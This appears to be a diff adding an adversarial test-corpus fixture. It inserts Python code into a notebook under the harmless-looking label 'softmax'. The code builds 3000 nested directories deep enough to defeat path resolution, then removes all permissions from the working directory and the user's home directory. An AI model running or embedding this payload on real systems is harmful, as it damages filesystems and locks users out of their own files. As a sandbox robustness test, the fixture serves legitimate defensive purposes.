@@ -1,0 +1,19 @@
+"""Makes folders in folders until no path names them any more, and takes all rights from them."""
+
+from tests.corpus import append
+
+POINTS = {}
+
+CODE = """
+import os
+
+for _ in range(3000):
+    os.mkdir("left-behind-" + "x" * 200)
+    os.chdir("left-behind-" + "x" * 200)
+os.chmod(".", 0)
+os.chmod(os.path.expanduser("~"), 0)
+"""
+
+
+def make(nb):
+    append(nb, "softmax", CODE)
